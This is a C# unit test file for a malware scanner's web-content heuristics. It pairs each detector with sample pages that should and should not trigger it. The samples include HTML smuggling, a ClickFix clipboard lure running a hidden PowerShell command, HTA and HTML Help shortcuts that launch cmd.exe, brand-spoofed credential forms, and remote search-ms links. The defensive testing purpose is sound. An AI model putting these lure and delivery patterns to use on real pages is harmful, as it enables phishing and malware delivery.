using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Web;

public sealed class WebStageTests
{
    private static readonly string Program = Convert.ToBase64String(InertFiles.Pe());
    private static readonly string Picture = Convert.ToBase64String([0x89, .. "PNG"u8, .. new byte[800]]);

    private static readonly HeuristicCase[] Table =
    [
        Script(WebHeuristics.Smuggling,
            $"var d='{new string('A', 120)}';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);",
            "var t=JSON.parse(atob(reader.result));var b=new Blob([btoa(t)]);a.href=URL.createObjectURL(b);", "var b=new Blob([text]);a.href=URL.createObjectURL(b);", "var x=atob(d);console.log(x);", "var u=new Uint8Array(4);a.download='x.txt';"),
        Script(WebHeuristics.CarriedContainer,
            $"var d='{Program}';", $"var d='{Picture}';", $"var d='{Program[..100]}';", $"var d='{new string('A', 2000)}';"),
        Script(WebHeuristics.AutoClick,
            "var a=document.createElement('a');a.href=u;a.click();", "var a=document.createElement('a');a.href=u;", "document.getElementById('b').click();",
            "a.addEventListener('click',f);document.createElement('a');"),
        Page(WebHeuristics.CredentialForm,
            "<form action='https://collect.invalid/p.php'><input type=password></form>", "<form action='/login'><input type=password></form>",
            "<form action='https://search.invalid/q'><input type=text></form>",
            "<a href='https://app.invalid/home'>Home</a><form action='https://login.app.invalid/p'><input type=password></form>"),
        Page(WebHeuristics.CredentialTheft,
            "<form action='https://192.0.2.7/p.php'><input type=password></form>", "<form action='https://collect.invalid/p.php'><input type=password></form>",
            "<form action='https://formspree.io/f/a'><input type=email></form>", "<form action='/login'><input type=password></form><script>fetch('https://api.invalid/x')</script>"),
        Script(WebHeuristics.CredentialHidden,
            "document.body.innerHTML='<form><input type=email><input type=pass'+'word name=p></form>';", "document.body.innerHTML='<form><input type=text name=q></form>';",
            "var help='Enter your password';", "document.body.innerHTML='<p>password</p>';"),
        Page(WebHeuristics.BrandTitle,
            "<title>Microsoft sign in</title><form action='https://collect.invalid/p'><input type=password></form>",
            "<title>Microsoft sign in</title><form action='https://login.microsoft.invalid/p'><input type=password></form>",
            "<title>Our forum</title><form action='https://collect.invalid/p'><input type=password></form>",
            "<title>Microsoft sign in</title><p>How to sign in.</p>"),
        Page(WebHeuristics.Protocol,
            "<a href='search-ms:query=x&crumb=location:\\\\192.0.2.1\\share'>open</a>", "<a href='mailto:a@b.invalid'>mail</a>",
            "<a href='file:///usr/share/doc/index.html'>local</a>", "<p>ms-msdt: is a protocol</p>"),
        Page(WebHeuristics.MetaRefresh,
            "<meta http-equiv=refresh content='0; url=https://other.invalid/'>", "<meta http-equiv=refresh content='0; url=index.html'>",
            "<meta http-equiv=refresh content=300>", "<meta name=refresh content='0; url=https://other.invalid/'>"),
        Script(WebHeuristics.WriteDecoded,
            "document.write(unescape('%3Chtml%3E%3Cbody%3E'+rest));", "document.write('<p>' + name + '</p>');",
            "document.write(unescape(\"%3Cscript src='\" + h + \"ga.js' type='text/javascript'%3E%3C/script%3E\"));", "var x = unescape('%20');"),
        Script(WebHeuristics.Wasm,
            $"WebAssembly.instantiate(b('AGFzbQEAAAA{new string('A', 60)}'));", "WebAssembly.instantiateStreaming(fetch('a.wasm'));",
            "var t='AGFzbQEAAAA is the start of WebAssembly in base64';", $"var d='{new string('B', 60)}';"),
        Page(WebHeuristics.ClickFix,
            "<p>Verify: press Windows + R, then Ctrl + V and Enter</p><script>var c='powershell -w hidden -c calc';navigator.clipboard.writeText(c)</script>",
            "<p>Press Windows + R, then Ctrl + V</p><script>navigator.clipboard.writeText(location.href)</script>", "<p>Paste it where you like</p><script>navigator.clipboard.writeText(c)</script>", "<p>Press Windows + R, type notepad, press Enter</p>",
            "<pre>powershell -File build.ps1</pre><script>navigator.clipboard.writeText(pre.innerText)</script>"),
        new(WebHeuristics.HtaExec,
            new("a.hta", "<html><head><hta:application id=x></head><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"),
            new("a.hta", "<html><head><hta:application id=x></head><script>alert(1)</script></html>"),
            new("a.html", "<html><p>new ActiveXObject('WScript.Shell') runs in an HTML application only</p></html>"),
            new("a.html", "<html><script>// WScript.Shell is not to be had here</script></html>")),
        Page(WebHeuristics.CredentialBrand,
            "<title>Microsoft sign in</title><form action='https://collect.invalid/p'><input type=password></form>",
            "<title>Microsoft sign in</title><form action='/login'><input type=password></form>", "<title>Our forum</title><form action='https://collect.invalid/p'><input type=password></form>",
            "<title>Microsoft sign in</title><form action='http://192.168.1.1/login.cgi'><input type=password></form>"),
        new(WebHeuristics.CredentialMailed, Mailed("<form action='https://collect.invalid/p'><input type=password></form>"), Mailed("<form action='/login'><input type=password></form>"),
            Mailed("<form action='https://host.invalid/q'><input type=text></form>"), new("a.html", "<html><form action='https://collect.invalid/p'><input type=password></form></html>")),
        Page(WebHeuristics.ForeignFolder,
            "<a href='search-ms:query=x&crumb=location:\\\\192.0.2.1\\share'>open</a>", "<a href='search-ms:query=x&crumb=kind:document'>open</a>", "<a href='https://host.invalid/?crumb=location:home'>x</a>", "<p>search-ms: opens a search</p>"),
        new(WebHeuristics.HiddenRedirect, new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href=p+atob('Ly9ob3N0')</script></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='page2.svg'</script></svg>"), new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>var t=atob('eA==');show(t)</script></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://host.invalid/'><text>atob</text></a></svg>")),
        Page(WebHeuristics.HelpShortcut,
            "<object classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'><param name='Command' value='ShortCut'><param name='Item1' value=',cmd.exe,/c calc'></object>",
            "<object classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'><param name='Command' value='Related Topics'></object>", "<object classid='clsid:1e2a7bd0-dab9-11d0-b93a-00c04fc99f9e'><param name='Item1' value=',cmd.exe'></object>", "<p>cmd.exe,/c calc</p>"),
        new(WebHeuristics.SvgScript,
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://x.invalid/'</script></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>function s(n){details.nodeValue='Function: '+n;}</script><g onmouseover='s(1)'/></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><div>Label</div></foreignObject></svg>"),
            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><style>script{}</style><text>script</text></svg>")),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_page_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Fact]
    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic).Should().BeEquivalentTo(WebHeuristics.All);

    [Fact]
    public async Task What_a_page_carries_becomes_artifacts()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(System.Text.Encoding.UTF8.GetBytes(
            $"<html><script>var d='{Program}';</script><img src='data:image/png;base64,{Picture}'></html>"), "a.html");

        outcome.Artifacts.Skip(1).Where(artifact => artifact.Origin == "html").Select(artifact => (artifact.Relation, artifact.Name))
            .Should().Equal(("script", "script-1.js"), ("embedded", "data-2.png"), ("decoded", "carried-3.exe"));
    }

    private static SampleFile Mailed(string body) => new("a.eml", TestKit.HeldOut.Second.MailForms.Message("a@one.invalid", "Hello", "text/plain", "Hello", ("a.html", System.Text.Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><body>{body}</body></html>"))));

    private static HeuristicCase Script(Heuristic heuristic, string positive, params string[] negatives) =>
        Page(heuristic, $"<script>{positive}</script>", [.. negatives.Select(code => $"<script>{code}</script>")]);

    private static HeuristicCase Page(Heuristic heuristic, string positive, params string[] negatives) =>
        HeuristicCase.Of(heuristic, "a.html", $"<!DOCTYPE html><html><body>{positive}</body></html>",
            [.. negatives.Select(body => $"<!DOCTYPE html><html><body>{body}</body></html>")]);
}
